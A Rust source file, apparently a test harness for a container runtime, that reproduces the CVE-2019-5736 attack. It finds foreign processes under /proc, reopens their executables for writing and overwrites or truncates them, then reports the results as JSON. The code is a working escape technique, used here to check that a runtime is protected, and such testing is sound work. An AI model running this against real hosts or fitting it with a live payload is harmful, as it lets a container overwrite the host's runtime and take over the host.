//! What a hostile program does to the runtime that enters its container.

use serde_json::json;
use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

/// How long the attack goes on.
const TIME: Duration = Duration::from_secs(4);

/// CVE-2019-5736: takes hold of the program of every process that turns up, and
/// tries to write to it for as long as it can be held. Says what came of it.
pub fn overwrite() {
    println!("ready");
    let own = fs::read_link("/proc/self/exe").expect("our own program");
    let mut held: BTreeMap<u32, File> = BTreeMap::new();
    let (mut seen, mut tried) = (0, 0);
    let mut written: Vec<String> = Vec::new();
    let start = Instant::now();
    while start.elapsed() < TIME {
        for pid in processes() {
            let exe = format!("/proc/{pid}/exe");
            let foreign = fs::read_link(&exe).is_ok_and(|link| link != own);
            if foreign && !held.contains_key(&pid) {
                seen += 1;
                if let Ok(file) = File::open(&exe) {
                    held.insert(pid, file);
                }
            }
        }
        for file in held.values() {
            tried += 1;
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            // Without truncating first: what is sealed may be opened all the same.
            let Ok(mut file) = OpenOptions::new().write(true).open(&path) else { continue };
            if file.write_all(b"#!/bin/false\n").is_ok() || file.set_len(0).is_ok() {
                written.push(fs::read_link(&path).map_or(path, |l| l.display().to_string()));
            }
        }
        if tried % 1000 == 0 {
            std::thread::yield_now();
        }
    }
    let held = held.len();
    println!("{}", json!({"seen": seen, "held": held, "tried": tried, "written": written}));
}

fn processes() -> Vec<u32> {
    let Ok(entries) = fs::read_dir("/proc") else { return Vec::new() };
    let names = entries.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned());
    names.filter_map(|name| name.parse().ok()).filter(|pid| *pid != std::process::id()).collect()
}
